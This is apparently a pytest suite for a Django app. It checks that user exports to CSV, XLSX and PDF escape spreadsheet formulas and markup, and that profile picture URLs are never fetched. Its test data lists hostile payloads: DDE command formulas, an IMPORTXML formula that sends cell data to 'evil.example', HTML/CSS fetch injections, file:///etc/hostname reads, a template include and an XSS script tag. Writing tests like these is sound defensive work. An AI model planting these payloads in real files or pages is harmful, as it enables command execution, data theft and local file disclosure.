"""Attacks through names: in a spreadsheet, in a PDF, and through a picture nobody may fetch."""

import csv
import io
import socket
from contextlib import contextmanager

import openpyxl
import pytest
from pypdf import PdfReader

from .browsing import PEOPLE, enter, page_of
from .factories import UserFactory
from .sending import send

pytestmark = [pytest.mark.django_db, pytest.mark.one_cast]
FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    "''@x",
]
STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


@contextmanager
def listening():
    """An address of this machine, and a function that tells whether anybody called."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)

        def called():
            try:
                listener.accept()
            except BlockingIOError:
                return False
            return True

        yield f"http://127.0.0.1:{listener.getsockname()[1]}", called


def test_the_listener_can_tell():
    with listening() as (address, called):
        assert not called()
        port = int(address.rpartition(":")[2])
        with socket.create_connection(("127.0.0.1", port)):
            assert called()


@pytest.fixture
def formulas(cast):
    return [
        UserFactory(name=formula, description=formula, phone=formula[:50], organization=cast.europe)
        for formula in FORMULAS
    ]


@pytest.mark.parametrize(
    "path",
    ["/api/users/export?format=csv", "/api/v2/users/download", "/admin/users/user/export/csv"],
)
def test_no_cell_of_a_csv_file_is_a_formula(client, cast, call, formulas, path):
    api = enter(client, cast.root) if "admin" in path else call(cast.root)
    content = api.get(path).getvalue().decode()
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    assert [cell for cell in cells if cell and cell[0] in STARTS] == []
    assert {f"'{formula}" for formula in FORMULAS} <= set(cells)


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(client, cast, formulas):
    content = enter(client, cast.root).get("/admin/users/user/export/xlsx").getvalue()
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}
    assert [cell.value for cell in cells if str(cell.value or "")[:1] in tuple(STARTS)] == []
    assert [cell.hyperlink for cell in cells if cell.hyperlink] == []
    assert b"externalLink" not in content


def markup(address):
    """Names that would fetch something, were they markup or style."""
    return [
        f"<link rel=stylesheet href={address}/a>",
        f"<img src={address}/b>",
        f"</style><style>@import url({address}/c);",
        f"</td></table><object data={address}/d>",
        f"<a href={address}/e>click</a>",
        f'"><svg><image href="{address}/f"/></svg>',
        f"}} body {{ background: url({address}/g) }}",
        "<iframe src=file:///etc/hostname>",
        "<link rel=attachment href=file:///etc/hostname>",
        "{{ 7|add:7 }}{% include '/etc/hostname' %}",
        "<script>alert(1)</script>",
    ]


def test_a_pdf_shows_markup_as_text_and_fetches_nothing(cast, call):
    with listening() as (address, called):
        names = markup(address)
        for name in names:
            UserFactory(name=name, organization=cast.europe)
        answer = call(cast.root).get("/api/users/export?format=pdf&sort_by=name")
        content = answer.getvalue()
        asked = call(cast.root).get("/api/users/export", {"format": "pdf", "search": names[2]})
        more = asked.getvalue()
        assert not called()
    reader = PdfReader(io.BytesIO(content))
    text = "".join("".join(page.extract_text().split()) for page in reader.pages)
    for name in names:
        assert "".join(name.split()) in text
    shown = "".join(PdfReader(io.BytesIO(more)).pages[0].extract_text().split())
    assert "".join(names[2].split()) in shown
    for file in (content, more):
        pdf = PdfReader(io.BytesIO(file))
        assert not list(pdf.attachments)
        assert [page for page in pdf.pages if "/Annots" in page] == []
        assert not any(
            word in file for word in (b"/JavaScript", b"/Launch", b"/URI", b"/EmbeddedFile")
        )


@pytest.mark.parametrize("scheme", ["http", "file", "gopher", "data", "javascript", "ftp"])
def test_a_picture_is_an_address_that_nobody_here_opens(client, cast, call, scheme):
    api, browser = call(cast.root), enter(client, cast.root)
    with listening() as (address, called):
        picture = address.replace("http", scheme, 1) + "/face.png"
        answer = send(api, "patch", f"/users/{cast.ivo.pk}", {"picture": picture})
        assert answer.status_code == (200 if scheme in ("http", "ftp") else 400)
        cast.ivo.picture = picture
        cast.ivo.save()
        api.get(f"/users/{cast.ivo.pk}")
        page = browser.get(page_of(cast.ivo)).content.decode()
        browser.get(f"{PEOPLE}?q=ivo")
        for word in ("csv", "xlsx", "json", "pdf"):
            browser.get(f"{PEOPLE}export/{word}?q=ivo").getvalue()
        assert not called()
    assert f'src="{picture}' not in page
    assert f'href="{picture}' not in page or scheme in ("http", "ftp")
